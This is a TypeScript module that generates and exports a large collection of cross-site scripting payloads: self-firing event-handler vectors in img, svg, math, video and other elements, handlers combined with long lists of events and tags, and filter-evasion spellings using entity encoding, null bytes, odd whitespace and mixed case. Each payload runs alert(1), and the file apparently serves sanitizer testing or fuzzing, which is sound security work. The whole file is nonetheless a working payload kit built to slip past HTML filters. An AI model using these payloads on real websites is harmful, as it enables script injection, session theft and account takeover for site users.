const run = 'alert(1)';

const words = (list: string): string[] => list.trim().split(/\s+/);

const events = words(`
  abort activate afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput
  beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough change click close
  contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange
  end ended error finish focus focusin focusout formdata fullscreenchange gesturestart gotpointercapture hashchange input invalid keydown keypress keyup load
  loadeddata loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel
  mozfullscreenchange pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover
  pointerrawupdate pointerup popstate progress ratechange readystatechange repeat reset resize scroll scrollend scrollsnapchange search securitypolicyviolation
  seeked seeking select selectionchange selectstart show slotchange start stalled storage submit suspend timeupdate toggle touchcancel touchend touchmove
  touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend
  webkitmouseforcechanged webkittransitionend webkitwillrevealbottom wheel`);

const elements = words(`
  a abbr acronym address area article aside audio b bdi bdo big blink blockquote body br button canvas center cite code col colgroup data datalist dd del
  details dfn dialog dir div dl dt em fieldset figcaption figure font footer form frame frameset h1 header hr html iframe image img input ins kbd keygen label
  legend li link listing main map mark marquee menu meter nav nobr object ol optgroup option output p picture pre progress q ruby s samp search section select
  small source span strike strong sub summary sup svg table tbody td textarea th time title tr track tt u ul var video wbr xmp x-y custom-element`);

/** Elements that call a handler by themselves. */
const selfStarting = [
  `<img src=x onerror=${run}>`,
  `<img src onerror=${run}>`,
  `<img srcset=x onerror=${run}>`,
  `<image src=x onerror=${run}>`,
  `<image href=x onerror=${run}>`,
  `<input type=image src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<input autofocus onblur=${run}><input autofocus>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<select autofocus onfocus=${run}></select>`,
  `<button autofocus onfocus=${run}>x</button>`,
  `<a href=# autofocus onfocus=${run} tabindex=1>x</a>`,
  `<div contenteditable autofocus onfocus=${run}>x</div>`,
  `<xss id=x tabindex=1 onfocus=${run} autofocus>x</xss>`,
  `<xss onanimationstart=${run} style="animation:x 1s"><style>@keyframes x{}</style></xss>`,
  `<xss style="transition:color 1s" ontransitionend=${run}>x</xss>`,
  `<video><source onerror=${run}></video>`,
  `<video src=x onerror=${run}></video>`,
  `<video onloadstart=${run} src=data:,x></video>`,
  `<video poster=x onerror=${run} src></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<audio autoplay controls onplay=${run}><source src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAAZGF0YQAAAAA="></audio>`,
  `<track onerror=${run} default src=x>`,
  `<object data=x onerror=${run}></object>`,
  `<object onload=${run} data=about:blank></object>`,
  `<embed src=x onload=${run}>`,
  `<iframe onload=${run}></iframe>`,
  `<iframe src=about:blank onload=${run}>`,
  `<link rel=stylesheet href=data:text/css, onload=${run}>`,
  `<link rel=stylesheet href=x onerror=${run}>`,
  `<style onload=${run}></style>`,
  `<style onerror=${run}>@import 'x'</style>`,
  `<script onerror=${run} src=x></script>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<body onresize=${run}>`,
  `<body onhashchange=${run}><a href=#y>x</a>`,
  `<body background=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<marquee loop=1 width=0 onfinish=${run}>x</marquee>`,
  `<details open ontoggle=${run}><summary>x</summary>y</details>`,
  `<div popover id=x onbeforetoggle=${run}>x</div><button popovertarget=x>y</button>`,
  `<dialog open onclose=${run}><form method=dialog><button>x</button></form></dialog>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><g onload=${run}></g></svg>`,
  `<svg><image href=x onerror=${run}></svg>`,
  `<svg><image xlink:href=x onerror=${run} onload=${run}></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><animate onend=${run} attributeName=x dur=1ms>`,
  `<svg><set onbegin=${run} attributeName=x>`,
  `<svg><animatetransform onbegin=${run} attributeName=transform>`,
  `<svg><animatemotion onbegin=${run} path="M0,0" dur=1s>`,
  `<svg><discard onbegin=${run}>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=9>x</text></a>`,
  `<svg><a><set attributeName=href to="javascript:${run}"/><text y=9>x</text></a>`,
  `<svg><a href=#><animate attributeName=xlink:href from=a to="javascript:${run}" begin=0s fill=freeze /><text y=9>x</text></a>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:${run}'><text y='9'>x</text></a></svg>#x">`,
  `<svg><use xlink:href="#x"/><symbol id=x><foreignObject><img src=x onerror=${run}></foreignObject></symbol></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${run}</handler></svg>`,
  `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><feImage xlink:href="data:image/svg+xml,<svg onload=${run}>"/></svg>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><mtext href="javascript:${run}" xlink:href="javascript:${run}">x</mtext></math>`,
  `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${run}">x</maction></math>`,
  `<math><mi onclick=${run}>x</mi></math>`,
  `<form id=f onsubmit=${run}><input type=submit></form>`,
  `<form onformdata=${run}><button>x</button></form>`,
  `<isindex type=image src=x onerror=${run}>`,
  `<keygen autofocus onfocus=${run}>`,
  `<table><caption onclick=${run}>x</caption><tr onclick=${run}><td onmouseover=${run}>y</table>`,
];

/** Ways to write an attribute that a filter may not take for one. */
const spellings = [
  (name: string): string => `<img src=x ${name}=${run}>`,
  (name: string): string => `<img src=x ${name}="${run}">`,
  (name: string): string => `<img src=x ${name}='${run}'>`,
  (name: string): string => `<img src=x ${name}=\`${run}\`>`,
  (name: string): string => `<img/src=x/${name}=${run}>`,
  (name: string): string => `<img\nsrc=x\n${name}\n=\n${run}>`,
  (name: string): string => `<img\tsrc=x\t${name}\t=\t${run}>`,
  (name: string): string => `<img\fsrc=x\f${name}\f=\f${run}>`,
  (name: string): string => `<img src="x"${name}="${run}">`,
  (name: string): string => `<img src='x'${name}=${run}>`,
  (name: string): string => `<img """><img src=x ${name}=${run}">`,
  (name: string): string => `<img src=x:x ${name}=&#97;&#108;&#101;&#114;&#116;(1)>`,
  (name: string): string => `<img src=x ${name}=&#x0061lert&lpar;1&rpar;>`,
  (name: string): string => `<img src=x ${name}="&#0000097;lert(1)">`,
  (name: string): string => `<img src=x ${name}=\\u0061lert(1)>`,
  (name: string): string => `<img src=x ${name}=x ${name}=${run}>`,
  (name: string): string => `<img src=x ${name}=${run}//`,
  (name: string): string => `<img src=x ${name}="${run}"`,
  (name: string): string => `<img src=x \u0000${name}=${run}>`,
  (name: string): string => `<img src=x ${name}\u0000=${run}>`,
  (name: string): string => `<img src=x ${name}\u0020\u000b=${run}>`,
  (name: string): string => `<img src=x x:${name}=${run} data-${name}=${run} ${name}-x=${run}>`,
  (name: string): string => `<img src="x\` \`${name}=${run}">`,
  (name: string): string => `<img src='x"y' ${name}=${run} alt="'>`,
  (name: string): string => `<img src=x =">" ${name}=${run}>`,
  (name: string): string => `<img src=x <b ${name}=${run}>`,
  (name: string): string => `<img alt="<!--" src=x ${name}=${run} title="-->">`,
  (name: string): string => `<img src=x ${name}="javascript:${run}">`,
  (name: string): string =>
    `<x src=x ${name}=${run} onclick=${run} onmouseover=${run} tabindex=1 style=display:block>x`,
  (name: string): string => `< img src=x ${name}=${run}>`,
  (name: string): string => `<img src=x ${name}&equals;${run}>`,
];

export const handlers: readonly string[] = [
  ...selfStarting,
  ...events.map((event) => `<b tabindex=1 on${event}=${run}>x</b>`),
  ...events.map((event) => `<svg on${event}="${run}"><g on${event}="${run}"><text>x</text></g></svg>`),
  ...elements.map((element) => `<${element} onclick=${run} onload=${run} onerror=${run} src=x>x</${element}>`),
  ...spellings.flatMap((spell) => ['onerror', 'ONERROR', 'oNeRrOr'].map(spell)),
];
